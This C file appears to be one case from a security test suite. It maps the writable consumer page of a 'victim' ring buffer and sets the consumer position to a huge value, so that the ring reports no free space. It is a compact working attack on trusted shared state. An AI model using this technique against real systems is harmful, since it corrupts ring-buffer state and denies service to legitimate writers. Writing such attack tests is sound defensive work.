// SPDX-License-Identifier: GPL-2.0-only OR MIT
/*
 * The reader of a ring buffer says how far it has read on a page that it may write. What it says is believed.
 * Success: nothing finds room in the ring any more, and /victim/ring opens.
 */
#include "bpf.h"
#include <sys/mman.h>

static void run(void)
{
	volatile uint64_t *consumer = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, map_of("victim/maps/records", 0), 0);

	must("mmap", consumer == MAP_FAILED ? -1 : 0);
	*consumer = 1UL << 40;
}

ATTACK("moves the consumer of a ring buffer", .run = run);
